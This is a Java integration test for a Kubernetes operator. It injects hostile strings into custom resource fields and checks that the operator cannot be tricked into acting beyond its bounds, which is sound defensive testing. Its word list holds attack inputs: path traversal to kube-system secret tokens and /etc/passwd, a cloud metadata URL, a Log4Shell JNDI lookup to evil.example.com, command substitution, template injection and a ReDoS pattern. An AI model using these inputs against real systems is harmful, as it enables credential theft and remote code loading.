package dev.bulkhead.environment;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.bulkhead.apply.Ownership;
import dev.bulkhead.kube.BulkheadTest;
import dev.bulkhead.kube.TestCluster;
import dev.bulkhead.kube.TestNamespace;
import io.fabric8.kubernetes.client.KubernetesClientException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Executors;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/**
 * The operator is a deputy with more rights than those who command it. Into every field of text of our namespaced kinds
 * goes every word that could lead it astray; what the API server accepts is judged and planned, and stays in bounds.
 */
@BulkheadTest
class DeputyIT {

    private static final List<String> KINDS = List.of("environments", "workloads", "networkpolicysets", "secretscopes");

    private static final List<String> WORDS = List.of(
            "",
            " ",
            ".",
            "..",
            "/",
            "-",
            "*",
            "null",
            "~",
            "../../kube-system/secrets/token",
            "/../../etc/passwd",
            "..%2f..%2fkube-system",
            "kube-system",
            "kube-system/default",
            "default",
            "bulkhead-system",
            "lab-production-web",
            "KUBE-SYSTEM",
            "system:masters",
            "system:authenticated",
            "system:serviceaccount:bulkhead-system:bulkhead",
            "cluster-admin",
            "bulkhead-operator-namespaced",
            "pod-security.kubernetes.io/enforce",
            "linkerd.io/inject",
            "config.linkerd.io/skip-inbound-ports",
            "bulkhead.dev/hub",
            "bulkhead.dev/environment-uid",
            "app.kubernetes.io/managed-by",
            "kubernetes.io/metadata.name",
            "kubectl.kubernetes.io/last-applied-configuration",
            "privileged",
            "evil.example.com/shop/api:1",
            "registry.example.com.evil.example.com/api:1",
            "http://169.254.169.254/latest/meta-data",
            "kubernetes.default.svc",
            "localhost",
            "127.0.0.1/32",
            "0.0.0.0/0",
            "::/0",
            "169.254.169.254/32",
            "$(TOKEN)",
            "${jndi:ldap://evil.example.com/a}",
            "{{ .Values.token }}",
            "{{ address 'db' }}",
            "{hubNamespace}-{environment}-{name}",
            "a\nb: c",
            "a\u0000b",
            "(a+)+$",
            "-----BEGIN CERTIFICATE-----",
            "-1",
            "99999999999999999999",
            "1e400",
            "\uD83D\uDEA2",
            "x".repeat(52),
            "x".repeat(63),
            "x".repeat(64),
            "x".repeat(253),
            "x".repeat(5000),
            "x-".repeat(26) + "x");

    /** One word in one field of one resource. */
    private record Try(TextField field, World world, Ownership ownership, Set<String> marks, Manifest changed) {}

    @Test
    void whatTheApiServerAcceptsStaysInBounds(TestCluster cluster, TestNamespace namespace) {
        var tries = tries();
        var breaches = new ConcurrentHashMap<String, Object>();
        var accepted = new AtomicInteger();
        var atOnce = new Semaphore(8);
        try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
            tries.forEach(it -> threads.submit(() -> {
                atOnce.acquireUninterruptibly();
                try {
                    if (isAccepted(cluster, namespace, it.changed)) {
                        accepted.incrementAndGet();
                        var found = judged(it);
                        if (!found.isEmpty()) {
                            breaches.put("%s = %s".formatted(it.field, text(it)), found);
                        }
                    }
                } catch (RuntimeException e) {
                    breaches.put("%s = %s".formatted(it.field, text(it)), e.toString());
                } finally {
                    atOnce.release();
                }
            }));
        }
        System.err.printf("[deputy] %d words in fields, %d accepted%n", tries.size(), accepted.get());

        assertThat(breaches).isEmpty();
        assertThat(accepted).hasValueBetween(tries.size() / 20, tries.size() * 19 / 20);
    }

    private static String text(Try it) {
        var text = it.changed.content().path("spec").toString();
        return text.substring(0, Math.min(400, text.length()));
    }

    private static List<Try> tries() {
        var worlds = Stream.concat(
                        GoldenPlansTest.folders().stream().map(PlanFolder::folder),
                        Stream.of(Path.of("src/test/resources/deputy")))
                .map(World::in)
                .filter(world -> world.acceptance().problems().isEmpty())
                .toList();
        var fields = KINDS.stream().flatMap(kind -> TextField.of(kind).stream()).toList();
        var uncovered = new ArrayList<TextField>();
        var tries = new ArrayList<Try>();
        for (var field : fields) {
            var home = worlds.stream()
                    .filter(world -> world.manifests().stream().anyMatch(field::isWrittenIn))
                    .findFirst();
            if (home.isEmpty()) {
                uncovered.add(field);
                continue;
            }
            var manifest = home.get().manifests().stream()
                    .filter(field::isWrittenIn)
                    .findFirst()
                    .orElseThrow();
            var ownership = home.get().blueprint().ownership();
            var marks = Bounds.marks(home.get().plan());
            WORDS.forEach(word -> tries.add(new Try(field, home.get(), ownership, marks, field.with(manifest, word))));
        }
        assertThat(uncovered)
                .as("fields that no golden folder writes: write them there, or in src/test/resources/deputy")
                .isEmpty();
        return tries;
    }

    private static boolean isAccepted(TestCluster cluster, TestNamespace namespace, Manifest manifest) {
        var content = (ObjectNode) manifest.content().deepCopy();
        content.withObject("metadata").remove(List.of("namespace", "uid", "creationTimestamp"));
        try {
            cluster.dryRun(namespace, Manifest.write(content));
            return true;
        } catch (KubernetesClientException e) {
            if (e.getCode() == 400 || e.getCode() == 422) {
                return false;
            }
            throw e;
        }
    }

    /** Refused by our own rules, planned within its bounds, or out of them. */
    private static List<String> judged(Try it) {
        var after = new World(
                it.world.manifests().stream()
                        .map(manifest -> manifest.file().equals(it.changed.file())
                                        && name(manifest).equals(name(it.changed))
                                ? it.changed
                                : manifest)
                        .toList(),
                it.world.accepted());
        if (!after.acceptance().problems().isEmpty()) {
            return List.of();
        }
        return new Bounds(after.gathered(), it.ownership, it.marks).breaches(after.plan());
    }

    private static String name(Manifest manifest) {
        return manifest.kind() + "/" + manifest.content().at("/metadata/name").asText();
    }
}
